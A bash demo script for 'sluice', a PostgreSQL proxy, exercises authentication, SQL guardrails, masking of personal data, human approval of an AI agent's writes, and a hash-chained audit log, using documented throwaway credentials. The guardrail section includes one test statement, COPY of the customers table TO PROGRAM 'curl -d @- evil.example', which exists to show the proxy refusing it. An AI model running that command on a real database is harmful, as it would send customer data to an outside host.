#!/usr/bin/env bash
# demo.sh: `make demo`. Starts a throwaway PostgreSQL 15 with the sample shop, puts sluice in
# front of it, and walks through what sluice does, one section (one function) at a time.
#
#   scripts/demo.sh          start (or restart) the demo and run every section
#   scripts/demo.sh stop     stop sluice and the demo PostgreSQL
#
# Everything lives in ./demo-run/ (PostgreSQL in demo-run/pg, sluice's log in
# demo-run/sluice.log, the config it runs with in demo-run/sluice.yaml). sluice and PostgreSQL
# keep running after the script ends so you can try the printed psql lines yourself.
# Ports: PostgreSQL 5433 and sluice 7432/7480 unless taken (then the next free ones; override
# with DEMO_PG_PORT, DEMO_PORT, DEMO_ADMIN_PORT). Secrets are the documented demo ones of
# examples/demo.yaml. Exit status 0 when every check passed, 1 otherwise.
#
# Each run starts sluice with a fresh state store (demo-run/sluice.db: audit trail, approval
# requests and grants) and audit copy (demo-run/audit.jsonl); PostgreSQL's data is reloaded.
# To add a section: write a section_* function and list it in SECTIONS below.
set -euo pipefail

ROOT=$(cd "$(dirname "$0")/.." && pwd)
RUN=$ROOT/demo-run
SLUICE=${SLUICE_BIN:-$ROOT/build/sluice}
SLUICE_REL=${SLUICE_BIN:-build/sluice} # as shown in the printed commands
PGBIN=/usr/lib/postgresql/15/bin
export PATH=$PGBIN:$PATH

# Documented demo secrets (examples/demo.yaml holds their SCRAM verifiers).
APP_PASSWORD=app-demo-password # upstream role app, handed to sluice via SHOP_DB_PASSWORD
ALICE_PASSWORD=alice-demo-password
ETL_TOKEN=etl-demo-token
COPILOT_TOKEN=copilot-demo-token
DANA_PASSWORD=dana-demo-password # dba and dpo: approver, admin, sees raw values

SECTIONS=(
  section_connect_identities
  section_auth_refused
  section_guardrails
  section_masking
  section_approvals
  section_audit
  section_dashboard
  section_try_it
)

FAILED=0

# ---------------------------------------------------------------------------------------------
# Output helpers

if [ -t 1 ]; then B=$'\e[1m' G=$'\e[32m' R=$'\e[31m' D=$'\e[2m' N=$'\e[0m'; else B='' G='' R='' D='' N=''; fi
title() { printf '\n%s== %s%s\n' "$B" "$*" "$N"; }
say() { printf '%s\n' "$*"; }
ok() { printf '%s  ok: %s%s\n' "$G" "$*" "$N"; }
bad() { printf '%s  FAILED: %s%s\n' "$R" "$*" "$N"; FAILED=1; }
die() { printf '%sdemo: %s%s\n' "$R" "$*" "$N" >&2; exit 1; }

# ---------------------------------------------------------------------------------------------
# Ports and processes

port_free() { ! ss -ltnH "sport = :$1" 2>/dev/null | grep -q .; }
pick_port() { local p=$1; while ! port_free "$p"; do p=$((p + 1)); done; echo "$p"; }

# Connection string through sluice for identity $1 with secret $2.
conninfo() { echo "host=127.0.0.1 port=$SLUICE_PORT dbname=shop user=$1 password=$2"; }

# psql through sluice: identity, secret, SQL. Prints the command, then its output.
run_psql() {
  local who=$1 secret=$2 sql=$3
  printf '%s$ psql "%s" -c "%s"%s\n' "$D" "$(conninfo "$who" "$secret")" "$sql" "$N"
  psql -X -P pager=off "$(conninfo "$who" "$secret")" -c "$sql"
}

# Like run_psql, but captures stdout and stderr into OUT; returns psql's status.
OUT=
capture_psql() {
  local who=$1 secret=$2 sql=$3 rc=0
  printf '%s$ psql "%s" -c "%s"%s\n' "$D" "$(conninfo "$who" "$secret")" "$sql" "$N"
  OUT=$(timeout 60 psql -X -P pager=off -v VERBOSITY=default "$(conninfo "$who" "$secret")" \
    -c "$sql" 2>&1) || rc=$?
  printf '%s\n' "$OUT"
  return "$rc"
}

# sluice CLI: prints the command (config path shortened), then runs it.
run_sluice() {
  local shown="$*"
  printf '%s$ sluice %s%s\n' "$D" "${shown//$RUN/demo-run}" "$N"
  "$SLUICE" "$@"
}

sluice_pid() { [ -f "$RUN/sluice.pid" ] && cat "$RUN/sluice.pid"; }

sluice_stop() {
  local pid
  pid=$(sluice_pid) || return 0
  if kill -0 "$pid" 2>/dev/null; then
    kill -TERM "$pid" 2>/dev/null || true
    for _ in $(seq 1 50); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
    if kill -0 "$pid" 2>/dev/null; then kill -KILL "$pid" 2>/dev/null || true; fi
  fi
  rm -f "$RUN/sluice.pid"
}

cmd_stop() {
  sluice_stop
  "$ROOT/scripts/pg-cluster.sh" stop "$RUN/pg"
  say "demo stopped (data kept in $RUN; delete it for a fresh start)"
}

# ---------------------------------------------------------------------------------------------
# Setup: PostgreSQL with the shop, then sluice in front of it

setup_postgres() {
  title "PostgreSQL 15 with the sample shop"
  mkdir -p "$RUN"
  # Reuse the port of a demo cluster that is still running; otherwise pick one.
  if "$ROOT/scripts/pg-cluster.sh" status "$RUN/pg"; then
    PG_PORT=$(sed -n 4p "$RUN/pg/data/postmaster.pid")
  else
    PG_PORT=${DEMO_PG_PORT:-$(pick_port 5433)}
  fi
  PGAPP_PASSWORD=$APP_PASSWORD "$ROOT/scripts/pg-cluster.sh" start "$RUN/pg" "$PG_PORT"
  "$ROOT/scripts/pg-cluster.sh" psql "$RUN/pg" "$PG_PORT" -d postgres -qAt -c \
    "SELECT 1 FROM pg_database WHERE datname = 'shop'" | grep -q 1 ||
    "$ROOT/scripts/pg-cluster.sh" psql "$RUN/pg" "$PG_PORT" -d postgres -q -c \
      "CREATE DATABASE shop OWNER app"
  PGPASSWORD=$APP_PASSWORD psql -X -q -v ON_ERROR_STOP=1 \
    "host=127.0.0.1 port=$PG_PORT dbname=shop user=app" -f "$ROOT/examples/shop.sql" \
    2>&1 | grep -v 'NOTICE' || true
  local counts
  counts=$(PGPASSWORD=$APP_PASSWORD psql -X -qAt "host=127.0.0.1 port=$PG_PORT dbname=shop user=app" \
    -c "SELECT (SELECT count(*) FROM customers) || ' customers, ' || (SELECT count(*) FROM orders) || ' orders'")
  say "PostgreSQL on 127.0.0.1:$PG_PORT (data in demo-run/pg), database shop loaded: $counts"
}

setup_sluice() {
  title "sluice in front of it"
  [ -x "$SLUICE" ] || die "$SLUICE not found: run make first"
  sluice_stop
  SLUICE_PORT=${DEMO_PORT:-$(pick_port 7432)}
  ADMIN_PORT=${DEMO_ADMIN_PORT:-$(pick_port 7480)}
  [ "$ADMIN_PORT" = "$SLUICE_PORT" ] && ADMIN_PORT=$(pick_port $((ADMIN_PORT + 1)))
  sed -e "s/127\.0\.0\.1:7432/127.0.0.1:$SLUICE_PORT/" \
    -e "s/127\.0\.0\.1:7480/127.0.0.1:$ADMIN_PORT/" \
    -e "s/^\(    port: \)5433$/\1$PG_PORT/" \
    "$ROOT/examples/demo.yaml" >"$RUN/sluice.yaml"
  export SHOP_DB_PASSWORD=$APP_PASSWORD
  "$SLUICE" check -c "$RUN/sluice.yaml" || die "sluice check rejected $RUN/sluice.yaml"
  rm -f "$RUN"/sluice.db "$RUN"/sluice.db-wal "$RUN"/sluice.db-shm "$RUN"/audit.jsonl
  : >"$RUN/sluice.log"
  nohup "$SLUICE" serve -c "$RUN/sluice.yaml" >>"$RUN/sluice.log" 2>&1 </dev/null &
  echo $! >"$RUN/sluice.pid"
  # Ready when alice can run a statement (the listener alone says little).
  local i
  for i in $(seq 1 100); do
    kill -0 "$(sluice_pid)" 2>/dev/null || { tail -n 20 "$RUN/sluice.log" >&2; die "sluice exited"; }
    psql -X -qAt "$(conninfo alice@corp.com "$ALICE_PASSWORD") connect_timeout=2" -c "SELECT 1" \
      >/dev/null 2>&1 && break
    [ "$i" -eq 100 ] && { tail -n 20 "$RUN/sluice.log" >&2; die "sluice did not accept connections in 10 s"; }
    sleep 0.1
  done
  say "sluice (pid $(sluice_pid)) on 127.0.0.1:$SLUICE_PORT, admin on 127.0.0.1:$ADMIN_PORT"
  say "config demo-run/sluice.yaml, log demo-run/sluice.log"
}

# ---------------------------------------------------------------------------------------------
# Sections

section_connect_identities() {
  title "One database, three identities"
  say "Clients put the target in dbname and their identity in user; the password carries"
  say "their secret. Upstream, sluice logs in as role app with the vaulted password."
  say "(alice is not in an unmask group, so personal data reaches her masked: see Masking.)"
  say
  say "${B}alice@corp.com${N} (human, group engineers, password):"
  if run_psql alice@corp.com "$ALICE_PASSWORD" \
    "SELECT id, name, email, phone, card_number, ssn FROM customers ORDER BY id LIMIT 5"; then
    ok "alice connected"
  else bad "alice could not connect"; fi
  say
  say "${B}etl${N} (service, API token):"
  if run_psql etl "$ETL_TOKEN" \
    "SELECT status, count(*), sum(amount) FROM orders GROUP BY status ORDER BY status"; then
    ok "etl connected"
  else bad "etl could not connect"; fi
  say
  say "${B}copilot${N} (AI agent, group ai, API token):"
  if run_psql copilot "$COPILOT_TOKEN" \
    "SELECT c.name, count(*) AS orders, sum(o.amount) AS spent FROM orders o JOIN customers c ON c.id = o.customer_id GROUP BY c.name ORDER BY spent DESC LIMIT 3"; then
    ok "copilot connected"
  else bad "copilot could not connect"; fi
  say
  say "Upstream, every one of them is role app (clients never see its password):"
  run_psql copilot "$COPILOT_TOKEN" "SELECT current_user, current_database()" ||
    bad "copilot could not connect"
}

section_auth_refused() {
  title "Bad secrets are refused"
  say "A wrong secret and an unknown identity get the same answer (28P01), so the error"
  say "does not tell which identities exist."
  local who out msgs=()
  for who in alice@corp.com nobody@corp.com; do
    printf '%s$ psql "%s" -c "SELECT 1"%s\n' "$D" "$(conninfo "$who" wrong-password)" "$N"
    if out=$(psql -X -qAt "$(conninfo "$who" wrong-password)" -c "SELECT 1" 2>&1); then
      bad "$who with a wrong secret was let in"
    else
      say "$out"
      ok "refused $who"
      msgs+=("$(sed -e "s/$who//g" -e 's/.*FATAL: *//' <<<"$out")")
    fi
  done
  if [ "${#msgs[@]}" -eq 2 ]; then
    if [ "${msgs[0]}" = "${msgs[1]}" ]; then ok "same message for both"
    else bad "the two refusals differ: an unknown identity can be told apart"; fi
  fi
}

# Expect a statement to be refused with 42501 naming the rule.
expect_blocked() {
  local who=$1 secret=$2 sql=$3 rule=$4 out
  printf '%s$ psql "%s" -c "%s"%s\n' "$D" "$(conninfo "$who" "$secret")" "$sql" "$N"
  if out=$(psql -X -v VERBOSITY=default "$(conninfo "$who" "$secret")" -c "$sql" 2>&1); then
    say "$out"
    bad "$who: \"$sql\" was not refused"
  else
    say "$out"
    if grep -q "blocked by rule \"$rule\"" <<<"$out"; then ok "refused by $rule"
    else bad "refused, but not by rule $rule"; fi
  fi
}

section_guardrails() {
  title "Guardrails and policy"
  say "Every statement is parsed with PostgreSQL's own parser before it reaches the database."
  say "Risky ones are refused by built-in guardrails, with no configuration:"
  expect_blocked alice@corp.com "$ALICE_PASSWORD" "DELETE FROM orders" delete_without_where
  expect_blocked alice@corp.com "$ALICE_PASSWORD" "UPDATE customers SET email = 'x' WHERE 1 = 1" \
    update_without_where
  expect_blocked alice@corp.com "$ALICE_PASSWORD" "DROP TABLE customers" drop
  expect_blocked etl "$ETL_TOKEN" "COPY (SELECT * FROM customers) TO PROGRAM 'curl -d @- evil.example'" \
    copy_program
  say
  say "Rules in the config add to them: here AI agents may not run DDL (and their writes"
  say "need a person's approval: see Approvals)."
  expect_blocked copilot "$COPILOT_TOKEN" "CREATE TABLE scratch (id int)" agents-no-ddl
  say
  say "The same update by a person is fine:"
  if run_psql alice@corp.com "$ALICE_PASSWORD" "UPDATE orders SET status = 'shipped' WHERE id = 7"; then
    ok "alice may update one order"
  else bad "alice's update was refused"; fi
  say
  say "sluice explain shows what sluice sees and decides, without a database (for CI):"
  printf '%s$ sluice explain -c demo-run/sluice.yaml --as copilot "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d"%s\n' "$D" "$N"
  "$SLUICE" explain -c "$RUN/sluice.yaml" --as copilot \
    "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d" || true
}

section_masking() {
  title "Masking personal data"
  say "With no configuration, sluice masks emails, card numbers, SSNs, phone numbers, IBANs,"
  say "IP addresses and secrets in results: found by column name and inside free text (notes)."
  say "demo.yaml adds one custom detector (loyalty ids, LOY-nnnnnnnn) and lets group dpo see"
  say "raw values."
  say
  say "${B}copilot${N} (agent, not in an unmask group):"
  local sql="SELECT * FROM customers ORDER BY id LIMIT 3" raw leaked=()
  if capture_psql copilot "$COPILOT_TOKEN" "$sql"; then
    for raw in alice.nguyen@example.com '4242 4242 4242 4242' 160-52-9687 '415-555-0100' \
      alice.n.home@example.com LOY-20240117 '212-555-0101' 'DE89 3704'; do
      grep -qF -- "$raw" <<<"$OUT" && leaked+=("$raw")
    done
    if [ "${#leaked[@]}" -eq 0 ] && grep -qF 'a***@example.com' <<<"$OUT" &&
      grep -qF '****-****-****-4242' <<<"$OUT"; then
      ok "copilot sees masked values, sentences keep their non-sensitive words"
    else bad "copilot saw raw values: ${leaked[*]:-(expected masked forms missing)}"; fi
  else bad "copilot's SELECT failed"; fi
  say
  say "${B}dana@corp.com${N} (human, group dpo, listed in masking.unmask.groups):"
  if capture_psql dana@corp.com "$DANA_PASSWORD" "$sql"; then
    if grep -qF alice.nguyen@example.com <<<"$OUT" && grep -qF LOY-20240117 <<<"$OUT"; then
      ok "dana sees the raw values"
    else bad "dana's values were masked"; fi
  else bad "dana's SELECT failed"; fi
}

section_approvals() {
  title "Approvals: a person says yes, a grant remembers it"
  say "copilot's writes go to review. Agents get defer mode by default: the statement is"
  say "refused at once with a request id, and runs once approved."
  local id=""
  if capture_psql copilot "$COPILOT_TOKEN" "UPDATE orders SET status = 'refunded' WHERE id = 7"; then
    bad "copilot's UPDATE ran without approval"
  else
    id=$(grep -o 'req_[A-Za-z0-9]*' <<<"$OUT" | head -n 1 || true)
    if [ -n "$id" ] && grep -q 'approval required' <<<"$OUT"; then ok "refused with request $id"
    else bad "refused, but not with an approval request"; fi
  fi
  [ -n "$id" ] || return 0
  say
  say "An approver sees it (CLI here; also the dashboard, the API, Slack or a webhook):"
  run_sluice approvals -c "$RUN/sluice.yaml" list || bad "sluice approvals list failed"
  if run_sluice approvals -c "$RUN/sluice.yaml" approve "$id" --as dana@corp.com; then
    ok "approved by dana@corp.com"
  else bad "sluice approvals approve $id failed"; fi
  say
  say "The approval left a grant: the same statement (same fingerprint), other literals:"
  sleep 0.5 # the server notices a decision made by another process within about 0.2 s
  if capture_psql copilot "$COPILOT_TOKEN" "UPDATE orders SET status = 'refunded' WHERE id = 8"; then
    ok "copilot's UPDATE ran under the grant"
  else bad "copilot's UPDATE was refused after approval"; fi
  run_sluice approvals -c "$RUN/sluice.yaml" grants || bad "sluice approvals grants failed"
  say
  say "A different statement asks again:"
  if capture_psql copilot "$COPILOT_TOKEN" "DELETE FROM orders WHERE id = 9"; then
    bad "copilot's DELETE ran without approval"
  elif grep -q 'approval required' <<<"$OUT"; then ok "new fingerprint, new request"
  else bad "refused, but not with an approval request"; fi
  say
  say "People get wait mode: alice's edit of a customer record waits (a NOTICE names the"
  say "request) while a DBA approves it from another shell, here after 2 seconds:"
  (
    sleep 2
    for _ in $(seq 1 50); do
      wid=$("$SLUICE" approvals -c "$RUN/sluice.yaml" list --json 2>/dev/null | tr -d ' \t\n' |
        grep -o '"id":"req_[A-Za-z0-9]*","state":"pending","identity":"alice@corp.com"' |
        grep -o 'req_[A-Za-z0-9]*' | head -n 1 || true)
      [ -n "$wid" ] && break
      sleep 0.2
    done
    if [ -n "$wid" ]; then
      printf '%s$ sluice approvals -c demo-run/sluice.yaml approve %s --as dana@corp.com   (background)%s\n' "$D" "$wid" "$N"
      "$SLUICE" approvals -c "$RUN/sluice.yaml" approve "$wid" --as dana@corp.com
    fi
  ) &
  local approver=$! sql="UPDATE customers SET phone = '+1 415-555-0199' WHERE id = 1"
  printf '%s$ psql "%s" -c "%s"%s\n' "$D" "$(conninfo alice@corp.com "$ALICE_PASSWORD")" "$sql" "$N"
  # Not captured: the NOTICE shows at once, the result once the approval arrives.
  if timeout 60 psql -X -P pager=off "$(conninfo alice@corp.com "$ALICE_PASSWORD")" -c "$sql" 2>&1 |
    tee "$RUN/wait.out"; then
    if grep -q 'approval required' "$RUN/wait.out"; then ok "alice waited, then her UPDATE ran"
    else bad "alice's UPDATE ran without asking"; fi
  else bad "alice's UPDATE failed"; fi
  rm -f "$RUN/wait.out"
  wait "$approver" || true
}

section_audit() {
  title "Audit: every statement, hash-chained"
  say "Every session and statement is in the state store (demo-run/sluice.db) and in"
  say "demo-run/audit.jsonl: who, from where, the statement normalized (literals replaced by"
  say "\$n), decision and rule, rows, masked values per detector, a digest of the rows sent."
  sleep 0.3 # reads are committed within 100 ms
  run_sluice audit search -c "$RUN/sluice.yaml" --identity copilot --kind statement --limit 5 ||
    bad "sluice audit search failed"
  say "(without --kind: also sessions, approval requests and decisions, grant use)"
  say
  say "The event of copilot's masked SELECT, in demo-run/audit.jsonl (excerpt):"
  local ev
  ev=$(grep -F '"identity":"copilot"' "$RUN/audit.jsonl" | grep -F '"masked":' | tail -n 1 |
    grep -o '"statement":"[^"]*"\|"rows":[0-9]*\|"masked":{[^}]*}\|"digest":"[^"]*"' | paste -sd, - || true)
  if [ -n "$ev" ]; then say "  {$ev, ...}"; ok "masked values counted per detector"
  else bad "no audit event with masked counts for copilot"; fi
  say
  say "The events form a hash chain; verify recomputes it (exit 0 only when intact):"
  if run_sluice audit verify -c "$RUN/sluice.yaml"; then ok "audit chain intact"
  else bad "sluice audit verify failed"; fi
  say
  say "No raw literal reaches the audit (alice's new phone number was in her UPDATE):"
  if [ ! -s "$RUN/audit.jsonl" ]; then bad "demo-run/audit.jsonl is empty"
  elif grep -qF '415-555-0199' "$RUN/audit.jsonl" "$RUN"/sluice.db* "$RUN/sluice.log"; then
    bad "the raw phone number is in the audit or the log"
  else ok "not in audit.jsonl, sluice.db or sluice.log"; fi
}

section_dashboard() {
  title "Dashboard, API and metrics"
  local url="http://127.0.0.1:$ADMIN_PORT"
  local bearer="dana@corp.com:$DANA_PASSWORD"
  say "Dashboard: $url/   sign in with the token  $bearer"
  say "(dana is in admin.groups and approvals.approvers.groups; a password identity signs in"
  say "with NAME:PASSWORD, an API token or an OIDC JWT as it is)."
  say "copilot's DELETE from the Approvals section is still pending there: approve or deny it."
  printf '%s$ curl -s -H "Authorization: Bearer %s" %s/api/v1/whoami%s\n' "$D" "$bearer" "$url" "$N"
  local who
  if who=$(curl -sf -H "Authorization: Bearer $bearer" "$url/api/v1/whoami"); then
    say "$who"
    ok "the admin API accepts dana"
  else bad "GET /api/v1/whoami failed"; fi
  printf '%s$ curl -s %s/metrics | grep sluice_statements%s\n' "$D" "$url" "$N"
  local m
  m=$(curl -s "$url/metrics" | grep '^sluice_statements' || true)
  if [ -n "$m" ]; then say "$m"; ok "Prometheus metrics at $url/metrics"
  else bad "no sluice_statements metrics"; fi
}

section_try_it() {
  title "Try it yourself"
  say "  psql \"$(conninfo alice@corp.com "$ALICE_PASSWORD")\""
  say "  psql \"$(conninfo etl "$ETL_TOKEN")\""
  say "  psql \"$(conninfo copilot "$COPILOT_TOKEN")\""
  say "  psql \"$(conninfo dana@corp.com "$DANA_PASSWORD")\"     (dba, dpo: raw values)"
  say "Dashboard: http://127.0.0.1:$ADMIN_PORT/ (token dana@corp.com:$DANA_PASSWORD)"
  say "Approvals: $SLUICE_REL approvals -c demo-run/sluice.yaml list"
  say "Audit:     $SLUICE_REL audit tail -c demo-run/sluice.yaml --follow"
  say "PostgreSQL directly (bypassing sluice):"
  say "  psql \"host=127.0.0.1 port=$PG_PORT dbname=shop user=app password=$APP_PASSWORD\""
  say "Log: tail -f demo-run/sluice.log     Stop: scripts/demo.sh stop"
}

# ---------------------------------------------------------------------------------------------

main() {
  case "${1:-start}" in
    stop) cmd_stop; return ;;
    start) ;;
    *) die "usage: scripts/demo.sh [start|stop]" ;;
  esac
  cd "$ROOT"
  setup_postgres
  setup_sluice
  local s
  for s in "${SECTIONS[@]}"; do "$s"; done
  if [ "$FAILED" -ne 0 ]; then
    printf '\n%sdemo: some checks failed; see demo-run/sluice.log%s\n' "$R" "$N"
    return 1
  fi
  printf '\n%sdemo: all checks passed%s\n' "$G" "$N"
}

main "$@"
